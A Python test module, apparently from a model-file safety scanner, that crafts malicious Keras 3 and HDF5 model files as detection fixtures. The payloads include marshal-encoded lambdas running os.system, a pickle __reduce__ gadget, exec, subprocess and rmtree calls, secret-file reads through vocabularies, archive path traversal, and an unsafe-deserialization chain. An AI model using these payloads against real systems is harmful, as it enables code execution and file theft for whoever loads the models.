"""What files of Keras 3 ask for: functions and classes by module, bytecode, vocabularies and models in other files."""

from __future__ import annotations

import base64
import json
import marshal
from typing import TYPE_CHECKING, Any

from tests.real.safety.attacks import LAYER, Attack
from tests.real.safety.crafting import archive, archive3, entry3, function, hdf5_3, layer3, model3, tensor3

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from tests.real.safety.crafting import Json
    from tests.real.safety.scene import Scene


def _calling(fetched: Any, args: list[Any], **arguments: Any) -> Json:
    config = {"function": fetched, "arguments": arguments, "output_shape": [3]}
    return layer3("Lambda", config, args)


def _code(command: str) -> Json:
    made = compile(f"lambda x: __import__('os').system({command!r}) or x", "<model>", "eval").co_consts[0]
    code = base64.b64encode(marshal.dumps(made)).decode()
    return {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}


def _beside(evil: Json) -> Json:
    return model3(evil)


def _between(evil: Json) -> Json:
    return model3(evil, last=LAYER)


def _lookup(kind: str, scene: Scene) -> Json:
    config: Json = {"vocabulary": str(scene.secret), "max_tokens": None, "output_mode": "int"}
    config |= {"dtype": "string"} if kind != "IntegerLookup" else {"dtype": "int64"}
    return _beside(layer3(kind, config, [tensor3()]))


def _dense(**config: Any) -> Json:
    return _between(layer3("Dense", {"units": 3, "activation": "linear", "use_bias": True, **config}, [tensor3()]))


def _compiled(scene: Scene) -> Json:
    loss = function("tensorflow.python.eager.context", "os.system")
    return {**_between(layer3("Activation", {"activation": "relu"}, [tensor3()])),
            "compile_config": {"optimizer": "sgd", "loss": loss, "metrics": [_code(scene.command)]}}  # fmt: skip


def _own_names(scene: Scene) -> Json:
    """Return a model whose argument is a config that Keras makes an object of: the gadget of CVE-2025-9906."""
    unsafe = function("keras.config", "enable_unsafe_deserialization")
    first = layer3("Lambda", {"function": unsafe, "arguments": {}}, [], name="first")
    return model3(first, _calling(_code(scene.command), [tensor3()]), last=LAYER)


def _sequential(scene: Scene) -> Json:
    inner = _calling(_code(scene.command), [])
    inner.pop("inbound_nodes")
    config = {"name": "m", "layers": [entry3(), inner], "build_input_shape": [None, 3]}
    return {"module": "keras", "class_name": "Sequential", "registered_name": None, "config": config}


def _saved_elsewhere(scene: Scene) -> Json:
    return _between(layer3("TFSMLayer", {"filepath": str(scene.outside), "call_endpoint": "serve"}, [tensor3()]))


def _torch(scene: Scene) -> Json:
    import pickle  # noqa: PLC0415  a pickle is what the layer would read

    class Runs:
        def __reduce__(self) -> Any:
            import os  # noqa: PLC0415

            return os.system, (scene.command,)

    code = base64.b64encode(pickle.dumps(Runs())).decode()
    return _between(layer3("TorchModuleWrapper", {"module": code, "output_shape": [3]}, [tensor3()]))


def _text(make: Callable[[Scene], Json]) -> Callable[[Scene], Path]:
    return lambda scene: archive3(scene, make(scene))


def _assets_climb_out(scene: Scene) -> Path:
    text = layer3("TextVectorization", {"vocabulary": None, "output_mode": "int", "dtype": "string"}, [tensor3()])
    up = "../" * 12 + str(scene.marker).lstrip("/")
    return archive(scene, _beside(text), version="3.8.0", more=[(f"assets/{up}", b"x"), (up, b"x")])


def _feature_space(scene: Scene) -> Json:
    feature = {"dtype": "string", "preprocessor": {"module": "keras.layers", "class_name": "StringLookup",
               "config": {"name": "v", "vocabulary": str(scene.secret)}, "registered_name": None}}  # fmt: skip
    config = {"features": {"a": feature}, "output_mode": "concat"}
    return _between(layer3("FeatureSpace", config, [tensor3()], module="keras.utils"))


def _attack(name: str, make: Callable[[Scene], Json], **more: Any) -> Attack:
    return Attack(f"keras3-{name}", "keras3", _text(make), **more)


def _module(name: str, module: str, what: str, value: Callable[[Scene], Any], **more: Any) -> Attack:
    return _attack(name, lambda s: _beside(_calling(function(module, what), [value(s)])), **more)


ATTACKS = [
    _module("function-os", "os", "system", lambda s: s.command),
    _module("function-by-imports-of-keras", "keras.src.saving.saving_lib", "os.system", lambda s: s.command),
    _module("function-builtins", "builtins", "exec", lambda s: f"open({str(s.marker)!r}, 'w')"),
    _module("function-of-tensorflow", "tensorflow.io", "read_file", lambda s: str(s.secret)),
    _module("function-get-file-internal", "keras.src.utils.file_utils", "get_file", lambda s: f"file://{s.secret}"),
    _module("function-load-model", "keras.saving", "load_model", lambda s: str(s.secret)),
    _module("function-load-internal", "keras.src.saving.saving_lib", "load_model", lambda s: str(s.secret)),
    _module("function-save-img", "keras.utils", "save_img", lambda s: str(s.marker)),
    _module("function-model-from-json", "keras.models", "model_from_json", lambda s: json.dumps(
        _beside(_calling(_code(s.command), [tensor3()])))),
    _module("function-datasets", "keras.datasets.mnist", "load_data", lambda s: str(s.marker)),
    _module("function-file-utils-copy", "keras.src.utils.file_utils", "copy", lambda s: str(s.secret)),
    _attack("get-file-with-arguments", lambda s: _beside(_calling(
        function("keras.utils", "get_file"), ["marker"], origin=f"file://{s.secret}", cache_dir=str(s.outside)))),
    _attack("lambda", lambda s: _between(_calling(_code(s.command), [tensor3()]))),
    _attack("lambda-output-shape", lambda s: _between(layer3("Lambda", {
        "function": {"module": "keras.ops", "class_name": "function", "config": "relu", "registered_name": "relu"},
        "output_shape": _code(s.command), "arguments": {}}, [tensor3()]))),
    _attack("lambda-in-sequential", _sequential),
    _attack("lambda-as-activation", lambda s: _dense(activation=_code(s.command))),
    _attack("lambda-in-arguments", lambda s: _between(layer3(
        "Activation", {"activation": "relu"}, [tensor3()], kwargs={"mask": _code(s.command)}))),
    _attack("lambda-in-time-distributed", lambda s: _between(layer3(
        "TimeDistributed", {"layer": {k: v for k, v in _calling(_code(s.command), []).items()
                                      if k != "inbound_nodes"}}, [tensor3()]))),
    _attack("unsafe-switched-on", _own_names, names=(LAYER, "first")),
    _attack("initializer-of-module", lambda s: _dense(kernel_initializer={
        "module": "shutil", "class_name": "rmtree", "config": {"path": str(s.outside)}, "registered_name": None})),
    _attack("regularizer-function", lambda _: _dense(kernel_regularizer=function("os", "system"))),
    _attack("class-of-subprocess", lambda s: _between(layer3(
        "Popen", {"args": ["touch", str(s.marker)]}, [tensor3()], module="subprocess"))),
    _attack("class-csv-logger", lambda s: _between(layer3(
        "CSVLogger", {"filename": str(s.marker)}, [tensor3()], module="keras.callbacks"))),
    _attack("class-registered-elsewhere", lambda _: _between(layer3(
        "Dense", {"units": 3}, [tensor3()], registered_name="os>system", module="os"))),
    _attack("string-lookup", lambda s: _lookup("StringLookup", s)),
    _attack("integer-lookup", lambda s: _lookup("IntegerLookup", s)),
    _attack("text-vectorization", lambda s: _lookup("TextVectorization", s)),
    _attack("saved-model-elsewhere", _saved_elsewhere),
    _attack("torch-module", _torch),
    _attack("feature-space", _feature_space),
    _attack("typespec", lambda s: _between(layer3("Activation", {"activation": {
        "class_name": "__typespec__", "spec_name": "system", "module": "os", "registered_name": None,
        "config": [s.command]}}, [tensor3()]))),
    _attack("compile-config", _compiled, harmless=True, names=("system", "compile", "loss")),
    Attack("keras3-assets-climb-out", "keras3", _assets_climb_out, harmless=True, names=("assets", "..")),
    Attack("keras3-lambda-in-h5", "keras3_h5", lambda s: hdf5_3(s, _between(_calling(_code(s.command), [tensor3()])))),
    Attack("keras3-function-in-h5", "keras3_h5", lambda s: hdf5_3(
        s, _beside(_calling(function("keras.src.saving.saving_lib", "os.system"), [s.command])))),
    Attack("keras3-lookup-in-h5", "keras3_h5", lambda s: hdf5_3(s, _lookup("StringLookup", s))),
]  # fmt: skip
